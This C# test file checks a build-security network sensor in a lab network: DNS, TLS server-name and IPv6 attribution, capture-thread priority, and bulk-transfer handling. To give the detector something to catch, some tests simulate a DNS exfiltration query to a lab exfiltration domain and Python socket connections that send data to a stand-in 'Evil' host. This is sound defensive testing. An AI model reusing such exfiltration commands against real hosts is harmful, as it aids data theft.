using System.Net;
using BuildSentry.Core.Network;
using BuildSentry.Linux.Tests.Lab;
using BuildSentry.Linux.Tests.Support;
using BuildSentry.Testing.Lab;

namespace BuildSentry.Linux.Tests.Network;

/// <summary>
/// The sensor against real tools in the lab. The link has 20 ms of delay: with none, a DNS lookup
/// over the veth completes in about 0.1 ms and its socket is closed before any user-space sensor
/// can look it up (the sensor then reports the flow unattributed, never guessed). Real links are
/// slower than that; the delay makes the tests measure attribution, not a race against a veth.
/// </summary>
[Collection(NetworkLabCollection.Name)]
public sealed class NetworkSensorLabTests : IAsyncLifetime
{
    private static readonly TimeSpan LinkDelay = TimeSpan.FromMilliseconds(20);
    private readonly NetworkLabFixture _shared;
    private NetworkSensorHarness _sensor = null!;

    public NetworkSensorLabTests(NetworkLabFixture shared) => _shared = shared;

    private NetworkLab Lab => _shared.Lab;

    public async Task InitializeAsync()
    {
        await Lab.SetDelayAsync(LinkDelay);
        _sensor = new NetworkSensorHarness();

        // One lookup and connection through every path first, as a daemon has done long before a
        // job runs: the tests measure attribution, not the JIT compiling it.
        using var warmUp = Lab.StartJob(["curl", "-sS", "-o", "/dev/null", "http://registry.test/ok"]);
        _sensor.Prefer(warmUp.Id);
        await warmUp.WaitForExitAsync();
        _sensor.WaitFor<HttpHostObserved>(h => h.Host == "registry.test");
        await Task.Delay(100);
        _sensor.Clear();
    }

    public async Task DisposeAsync()
    {
        _sensor.Dispose();
        await Lab.SetDelayAsync(TimeSpan.Zero);
    }

    private void AssertOwner(int pid, FlowAttribution attribution) =>
        Assert.True(attribution.Owner?.Pid == pid, $"expected pid {pid}, got {attribution.Owner?.Pid.ToString() ?? attribution.Failure}; " +
            $"attribution ms total {_sensor.Sensor.Counters.AttributionTicks * 1000.0 / System.Diagnostics.Stopwatch.Frequency:F1}, " +
            $"events {string.Join(" | ", _sensor.Arrivals.Select(a => $"{a.Event.GetType().Name}@{a.Event.Time:ss.ffffff} lag {(a.At - a.Event.Time).TotalMilliseconds:F1}ms"))}");

    [Fact]
    public void The_capture_thread_and_each_device_reader_run_at_nice_minus_10_with_the_default_slice()
    {
        // A violating packet is judged and its job killed on this thread: under a busy build it must not wait
        // behind the build for a core. Unlike the process sensor's reader it keeps the default slice: with the
        // shortest one the reader, woken by the kill's own exits, would preempt it mid-kill (docs/performance.md).
        // With two devices, the capture thread starts a
        // reader per device, which inherits its nice value. The fixture's sensor on "any" has a thread too.
        using var twoDevices = new NetworkSensorHarness(new Linux.Capture.CaptureOptions { Interfaces = ["lo", "any"] });
        var threads = Scheduling.ThreadsNamed(Linux.Capture.LivePacketSource.CaptureThreadName);
        Assert.True(threads.Count >= 4, $"{threads.Count} capture threads");
        Assert.All(threads, tid =>
        {
            Assert.Equal(Linux.Interop.ThreadNice.CaptureThread, Scheduling.NiceOfThread(tid));
            Assert.NotEqual(Linux.Interop.ThreadNice.RaisedSliceNs, Scheduling.SliceOfThread(tid));
        });
    }

    [Fact]
    public async Task Curl_over_http_yields_its_DNS_query_the_answer_the_connection_and_the_Host_all_attributed_to_curl()
    {
        using var curl = Lab.StartJob(["curl", "-4", "-sS", "-o", "/dev/null", "http://registry.test/ok"]);
        _sensor.Prefer(curl.Id);
        await curl.WaitForExitAsync();
        Assert.Equal(0, curl.ExitCode);

        var query = _sensor.WaitFor<DnsQueryObserved>(q => q.Name == "registry.test");
        AssertOwner(curl.Id, query.Attribution);
        var answer = _sensor.WaitFor<DnsAnswerObserved>(a => a.QueryName == "registry.test" && a.Answers.Count > 0);
        Assert.Contains(answer.Answers, r => Equals(r.Address, Lab.Registry.IPv4));
        var connect = _sensor.WaitFor<ConnectionAttempted>(c => c.Flow.Destination.Equals(Lab.Registry.IPv4));
        Assert.Equal(80, connect.Flow.DestinationPort);
        AssertOwner(curl.Id, connect.Attribution);
        var host = _sensor.WaitFor<HttpHostObserved>(h => h.Flow == connect.Flow);
        Assert.Equal("registry.test", host.Host);
        AssertOwner(curl.Id, host.Attribution);
    }

    [Fact]
    public async Task Curl_over_https_yields_the_TLS_server_name()
    {
        using var curl = Lab.StartJob(["curl", "-4", "-sS", "--cacert", Lab.CertificatePath, "-o", "/dev/null", "https://registry.test/ok"]);
        _sensor.Prefer(curl.Id);
        await curl.WaitForExitAsync();
        Assert.Equal(0, curl.ExitCode);

        var sni = _sensor.WaitFor<TlsServerNameObserved>(s => s.Flow.Destination.Equals(Lab.Registry.IPv4));
        Assert.Equal("registry.test", sni.ServerName);
        Assert.Equal(443, sni.Flow.DestinationPort);
        AssertOwner(curl.Id, sni.Attribution);
    }

    [Fact]
    public async Task Curl_over_IPv6_is_seen_with_the_IPv6_destination()
    {
        using var curl = Lab.StartJob(["curl", "-6", "-sS", "-o", "/dev/null", "http://registry.test/ok"]);
        _sensor.Prefer(curl.Id);
        await curl.WaitForExitAsync();
        Assert.Equal(0, curl.ExitCode);

        var connect = _sensor.WaitFor<ConnectionAttempted>(c => c.Flow.Destination.Equals(Lab.Registry.IPv6));
        AssertOwner(curl.Id, connect.Attribution);
        var answer = _sensor.WaitFor<DnsAnswerObserved>(a => a.Answers.Any(r => Equals(r.Address, Lab.Registry.IPv6)));
        Assert.Equal("registry.test", answer.QueryName);
    }

    [Fact]
    public async Task A_DNS_exfiltration_query_is_seen_with_the_process_that_asked()
    {
        var name = $"mzxw6ytboi{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain}";
        using var dig = Lab.StartJob(["dig", "+short", "+tries=1", name]);
        _sensor.Prefer(dig.Id);
        await dig.WaitForExitAsync();

        var query = _sensor.WaitFor<DnsQueryObserved>(q => q.Name == name);
        AssertOwner(dig.Id, query.Attribution);
        Assert.Equal(53, query.Flow.DestinationPort);
    }

    [Fact]
    public async Task A_raw_socket_connect_to_an_IP_literal_is_attributed_to_the_python_process()
    {
        using var python = Lab.StartJob(["/usr/bin/python3", "-c",
            $"import socket,time; s=socket.create_connection(('{Lab.Evil.IPv4}', 9000)); s.sendall(b'x'); time.sleep(0.2)"]);
        _sensor.Prefer(python.Id);
        await python.WaitForExitAsync();
        Assert.Equal(0, python.ExitCode);

        var connect = _sensor.WaitFor<ConnectionAttempted>(c => c.Flow.Destination.Equals(Lab.Evil.IPv4) && c.Flow.DestinationPort == 9000);
        AssertOwner(python.Id, connect.Attribution);
        Assert.DoesNotContain(_sensor.Events.OfType<DnsQueryObserved>(), q => q.Attribution.Owner?.Pid == python.Id);
    }

    [Fact]
    public async Task A_process_that_exits_right_after_connecting_is_still_attributed()
    {
        using var python = Lab.StartJob(["/usr/bin/python3", "-c",
            $"import socket,os; s=socket.create_connection(('{Lab.Evil.IPv4}', 9000)); os._exit(0)"]);
        _sensor.Prefer(python.Id);
        await python.WaitForExitAsync();

        var connect = _sensor.WaitFor<ConnectionAttempted>(c => c.Flow.Destination.Equals(Lab.Evil.IPv4) && c.Attribution.Owner?.Pid == python.Id
                                                                  || c.Flow.Destination.Equals(Lab.Evil.IPv4) && c.Attribution.Owner is null);
        Assert.True(connect.Attribution.Owner?.Pid == python.Id, $"unattributed: {connect.Attribution.Failure}");
    }

    [Fact]
    public async Task A_bulk_transfer_does_not_reach_managed_code_packet_by_packet()
    {
        var before = _sensor.Sensor.Counters.Frames;
        var result = await Lab.RunInLabAsync(["curl", "-4", "-sS", "-o", "/dev/null", "-w", "%{size_download}", "http://mirror.test/bytes/200000000"],
            TimeSpan.FromMinutes(2));
        Assert.True(result.Succeeded, result.ToString());
        Assert.Equal("200000000", result.StandardOutput.Trim());
        await Task.Delay(300);

        var frames = _sensor.Sensor.Counters.Frames - before;
        Assert.InRange(frames, 3, 60);
    }
}
